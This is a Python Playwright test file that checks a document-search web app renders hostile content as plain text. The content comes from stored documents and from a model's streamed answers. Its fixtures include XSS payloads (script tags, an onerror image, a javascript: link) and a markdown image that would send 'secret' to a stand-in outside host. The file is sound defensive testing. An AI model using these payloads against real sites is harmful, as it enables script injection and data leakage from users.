"""Documents that attack who reads them: nothing runs, nothing is asked of elsewhere, the page stays usable."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import httpx
import pytest
from playwright.sync_api import expect

from tests.query_api.library import running_api, stock
from tests.query_api.page.documents import HOSTILE, LONG_LINE

if TYPE_CHECKING:
    from collections.abc import Callable
    from contextlib import AbstractContextManager

    from playwright.sync_api import Dialog

    from pgfolio.config.settings import Settings
    from tests.query_api.page.conftest import Watched


def document_of(url: str, path: str) -> int:
    items = httpx.get(f"{url}/documents", params={"path": path}).json()["items"]
    return int(items[0]["id"])


@pytest.mark.parametrize("view", ["answer", "search", "document", "trace"])
def test_no_markup_of_a_document_becomes_markup_of_the_page(visit: Watched, view: str) -> None:
    """The watch of the fixture sees scripts, dialogs' errors, policy violations and requests to elsewhere."""
    dialogs: list[str] = []
    page = visit.page

    def opened(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", opened)
    if view == "document":
        visit.open(f"/d/{document_of(visit.url, HOSTILE.path)}")
        expect(page.locator(".text")).to_contain_text("<script>document.title = 'owned'</script>")
        page.get_by_text("About this document").click()
        expect(page.locator("dl")).to_contain_text("<script>alert(6)</script>")
    else:
        visit.open("/")
        visit.ask("How much does a kestrel weigh?", key="Enter" if view == "answer" else "Control+Enter")
        expect(page.locator(".passage").first).to_contain_text("<img src=x onerror=alert(1)> Kestrels")
        if view == "trace":
            page.get_by_role("link", name="why these").click()
            expect(page.locator("table")).to_contain_text("<script>alert(2)</script>")
    page.wait_for_load_state("networkidle")
    assert dialogs == []
    assert "owned" not in page.title()
    markup = "#app script, #app iframe, #app img[src*='elsewhere'], #app a[href^='javascript']"
    assert page.locator(markup).count() == 0


def test_an_answer_of_a_model_is_text_too(visit: Watched) -> None:
    page = visit.open("/")
    text = (
        "<img src=x onerror=alert(1)> ![p](https://elsewhere.example/?q=secret) "
        "[go](javascript:alert(2)) **bold** `code`"
    )
    body = f'event: token\ndata: {{"text": {text!r}}}\n\n'.replace("'", '"')
    page.route("**/ask", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    visit.ask("anything")
    expect(page.locator(".answer strong")).to_have_text("bold")
    expect(page.locator(".answer code")).to_have_text("code")
    assert (
        page.locator(".answer img, .answer a[href^='javascript'], .answer a[href*='elsewhere']").count() == 0
    )


@pytest.mark.long
def test_five_megabytes_in_one_line_stay_usable(
    conninfo: str,
    new_settings: Callable[..., Settings],
    opened: Callable[..., AbstractContextManager[Watched]],
) -> None:
    settings = new_settings(database_url=conninfo, api={"log": "off"})
    stock(conninfo, settings, (LONG_LINE,))
    with running_api(settings, conninfo) as client, opened(str(client.base_url)) as watched:
        length = len(LONG_LINE.text)
        page = watched.open(f"/d/1?start={length - 17}&end={length}")
        expect(page.locator(".text mark")).to_have_text("needle at the end")
        began = time.monotonic()
        page.get_by_role("button", name="characters before").click()
        page.get_by_text("About this document").click()
        assert time.monotonic() - began < 5
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
